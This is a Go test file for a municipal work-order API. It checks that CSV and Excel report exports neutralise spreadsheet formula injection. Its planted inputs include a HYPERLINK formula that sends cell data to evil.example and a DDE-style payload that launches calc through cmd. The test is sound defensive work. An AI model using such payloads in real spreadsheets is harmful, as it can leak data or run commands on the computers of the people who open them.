package api_test

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"

	"github.com/xuri/excelize/v2"
)

// TestExportsNoFormulas (issue 12, defect 5): text a citizen or an operator
// typed that a spreadsheet would evaluate (=HYPERLINK…, +…, -…, @…, a
// leading tab) comes out of every CSV export with a leading apostrophe, and
// the Excel exports store it as a string, never as a formula.
func TestExportsNoFormulas(t *testing.T) {
	t.Parallel()
	startEach(t, func(t *testing.T, s *server) {
		planted := []string{`=HYPERLINK("http://evil.example/?"&A1,"点击查看")`, "@SUM(1+1)*cmd|' /C calc'!A0", "+86-cmd", "-2+3+cmd|x", "\t=1+1"}
		// A citizen, no login, through the public form's address.
		s.raw("POST", "/api/v1/public/orders", "", obj{"type": "complaint", "description": "楼道堆满杂物消防通道被堵",
			"compound": "sanjiang", "address": planted[0], "phone": "13912345678"})
		opr := s.login("operator")
		for _, p := range planted[1:] {
			opr.create(strings.TrimSpace(p)+"标题", "描述", obj{"address": p})
		}
		leader := s.login("leader")
		st, _, body := leader.get("/api/v1/reports/orders.csv")
		if st != 200 {
			t.Fatalf("orders.csv: %d %s", st, body)
		}
		r := csv.NewReader(bytes.NewReader(bytes.TrimPrefix(body, []byte("\ufeff"))))
		r.FieldsPerRecord = -1
		recs, err := r.ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		seen := map[string]bool{}
		for _, rec := range recs {
			for _, c := range rec {
				if c == "" {
					continue
				}
				if strings.ContainsRune("=+-@\t\r", rune(c[0])) {
					if _, err := strconv.ParseFloat(c, 64); err != nil {
						t.Errorf("orders.csv cell %q starts a formula", c)
					}
				}
				seen[c] = true
			}
		}
		// An address alone is its cell, neutralised; after a compound's name
		// (the public order names 三江小区: the export writes one place,
		// order.Place) it is no formula at all.
		for _, p := range planted {
			p = strings.TrimSpace(p) // a create trims the address
			if !seen["'"+p] && !seen["三江小区 "+p] {
				t.Errorf("planted %q not in the CSV as '%s", p, p)
			}
		}
		// The other CSV exports go through the same writer.
		for _, name := range []string{"overview.csv", "ranking.csv"} {
			if st, _, body := leader.get("/api/v1/reports/" + name); st != 200 || len(body) == 0 {
				t.Errorf("%s: %d", name, st)
			}
		}

		st, _, body = leader.get("/api/v1/reports/orders.xlsx")
		if st != 200 {
			t.Fatalf("orders.xlsx: %d", st)
		}
		f, err := excelize.OpenReader(bytes.NewReader(body))
		if err != nil {
			t.Fatal(err)
		}
		defer f.Close()
		rows, _ := f.GetRows("工单清单")
		found := 0
		for i, row := range rows {
			for j, v := range row {
				cell, _ := excelize.CoordinatesToCellName(j+1, i+1)
				if formula, _ := f.GetCellFormula("工单清单", cell); formula != "" {
					t.Errorf("xlsx %s holds a formula %q", cell, formula)
				}
				for _, p := range planted {
					if v == strings.TrimSpace(p) || v == "三江小区 "+strings.TrimSpace(p) {
						found++
						if typ, _ := f.GetCellType("工单清单", cell); typ != excelize.CellTypeSharedString && typ != excelize.CellTypeInlineString {
							t.Errorf("xlsx %s = %q is stored as type %v, not a string", cell, v, typ)
						}
					}
				}
			}
		}
		if found < len(planted) {
			t.Errorf("xlsx: %d planted cells found as typed, want %d", found, len(planted))
		}
	})
}
